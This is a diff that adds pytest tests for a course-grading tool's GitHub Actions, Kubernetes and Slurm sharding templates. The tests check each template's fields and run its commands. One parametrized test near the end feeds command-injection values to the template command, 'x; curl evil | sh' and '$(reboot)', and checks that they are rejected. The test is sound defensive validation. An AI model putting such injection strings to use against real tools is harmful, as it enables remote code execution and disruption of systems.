@@ -1,0 +1,110 @@
+"""Issue 41: the templates that grade a class in shards on real engines
+(``dimred-teach class-template github|slurm|kubernetes``): each is valid for its engine, has
+the fields the engine needs, and its commands, run here as the engine would run them, give the
+merged class. (The Slurm script runs on a real Slurm cluster in tests/slurm/test_slurm.py.)"""
+
+from __future__ import annotations
+
+import os
+import re
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+import yaml
+
+from dimred_teach.cli import main
+
+ROOT = Path(__file__).resolve().parents[1]
+BIN = Path(sys.executable).parent
+SHARDS = 2
+
+
+def template(tmp_path: Path, engine: str, *options: str) -> Path:
+    out = tmp_path / f"{engine}.{'sh' if engine == 'slurm' else 'yml'}"
+    assert main(["class-template", engine, "--shards", str(SHARDS), "--out", str(out), *options]) == 0
+    return out
+
+
+@pytest.fixture(scope="module")
+def small_class(tmp_path_factory) -> Path:
+    """Two demo students' notebooks of set 01, in ``submissions/``."""
+    folder = tmp_path_factory.mktemp("engines")
+    assert main(["demo-class", "--out", str(folder / "submissions"), "--size", "2", "--seed", "1", "--sets", "01",
+                 "--root", str(ROOT)]) == 0
+    return folder
+
+
+def run(command: str, cwd: Path, **environment: str) -> None:
+    done = subprocess.run(["bash", "-c", command], cwd=cwd, capture_output=True, text=True, timeout=600,
+                          env={**os.environ, "PATH": f"{BIN}:{os.environ['PATH']}", **environment})
+    assert done.returncode == 0, (command, done.stdout[-2000:], done.stderr[-3000:])
+
+
+def test_the_github_workflow_is_valid_and_its_shards_merge(tmp_path, small_class):
+    path = template(tmp_path, "github", "--install", "dimred-teach==1.0")
+    checked = subprocess.run([str(BIN / "check-jsonschema"), "--builtin-schema", "vendor.github-workflows", str(path)],
+                             capture_output=True, text=True)
+    assert checked.returncode == 0, checked.stdout + checked.stderr
+    workflow = yaml.safe_load(path.read_text())
+    grade, merge = workflow["jobs"]["grade"], workflow["jobs"]["merge"]
+    assert grade["strategy"]["matrix"]["shard"] == list(range(SHARDS)) and grade["strategy"]["fail-fast"] is False
+    assert grade["env"]["DIMRED_TEACH_SHARD"] == "${{ matrix.shard }}/%d" % SHARDS
+    assert merge["needs"] == "grade" and merge["if"] == "always()"
+    uploads = [step["with"]["name"] for step in merge["steps"] if step.get("uses", "").startswith("actions/upload")]
+    assert uploads == ["class-report", "gradebook"]
+    grading = next(step["run"] for step in grade["steps"] if "dimred-teach grade" in step.get("run", ""))
+    merging = next(step["run"] for step in merge["steps"] if "dimred-teach merge" in step.get("run", ""))
+    assert "--sandbox bwrap" in grading
+    work = tmp_path / "runner"
+    work.mkdir()
+    (work / "submissions").symlink_to(small_class / "submissions")
+    for shard in range(SHARDS):  # each matrix job, then the download of every artifact into shards/
+        run(grading.replace("${{ matrix.shard }}", str(shard)), work, DIMRED_TEACH_SHARD=f"{shard}/{SHARDS}")
+        (work / "shards").mkdir(exist_ok=True)
+        (work / f"shard-{shard}").rename(work / "shards" / f"shard-{shard}")
+    run(merging, work)
+    assert "2 graded submission(s)" in (work / "class/class-report/index.html").read_text()
+    assert len((work / "class/gradebook.csv").read_text().splitlines()) == 3
+
+
+def test_the_kubernetes_indexed_job_has_its_fields_and_its_commands_merge(tmp_path, small_class):
+    grade, merge = yaml.safe_load_all(template(tmp_path, "kubernetes", "--image", "example.org/course:1").read_text())
+    assert (grade["kind"], grade["apiVersion"], merge["kind"]) == ("Job", "batch/v1", "Job")
+    spec = grade["spec"]
+    assert spec["completionMode"] == "Indexed" and spec["completions"] == spec["parallelism"] == SHARDS
+    pod = spec["template"]["spec"]
+    assert pod["restartPolicy"] == "Never" and pod["securityContext"]["seccompProfile"]["type"] == "Unconfined"
+    container = pod["containers"][0]
+    environment = {entry["name"]: entry.get("value") for entry in container["env"]}
+    assert environment["DIMRED_TEACH_SHARDS"] == str(SHARDS) and container["image"] == "example.org/course:1"
+    command = container["command"]
+    assert command[:2] == ["sh", "-c"] and "$JOB_COMPLETION_INDEX" in command[2] and "--shard " in command[2]
+    merge_container = merge["spec"]["template"]["spec"]["containers"][0]
+    mounts = {m["mountPath"] for c in (container, merge_container) for m in c["volumeMounts"]}
+    assert mounts == {environment["CLASS_DIR"]}
+    (tmp_path / "submissions").symlink_to(small_class / "submissions")
+    for index in range(SHARDS):  # each pod of the Indexed Job, with the variables Kubernetes and the manifest set
+        run(command[2], tmp_path, CLASS_DIR=str(tmp_path), JOB_COMPLETION_INDEX=str(index),
+            DIMRED_TEACH_SHARDS=str(SHARDS))
+    run(merge_container["command"][2], tmp_path, CLASS_DIR=str(tmp_path), DIMRED_TEACH_SHARDS=str(SHARDS))
+    assert len((tmp_path / "graded/class/gradebook.csv").read_text().splitlines()) == 3
+
+
+def test_the_slurm_script_submits_an_array_and_a_dependent_merge(tmp_path):
+    text = template(tmp_path, "slurm").read_text()
+    assert subprocess.run(["bash", "-n", str(tmp_path / "slurm.sh")]).returncode == 0
+    assert f"--array=0-{SHARDS - 1}" in text and '--dependency="afterany:' in text
+    assert re.search(r'grade "\$submissions" --shard --sandbox bwrap', text)
+
+
+@pytest.mark.parametrize("arguments, named", [
+    (["kubernetes", "--shards", "0"], "--shards"),
+    (["github", "--install", "x; curl evil | sh"], "--install"),
+    (["kubernetes", "--image", "a b"], "--image"),
+    (["slurm", "--submissions", "$(reboot)"], "--submissions"),
+])
+def test_bad_template_arguments_are_named(tmp_path, capsys, arguments, named):
+    assert main(["class-template", *arguments, "--out", str(tmp_path / "x")]) == 2
+    assert named in capsys.readouterr().err and not (tmp_path / "x").exists()
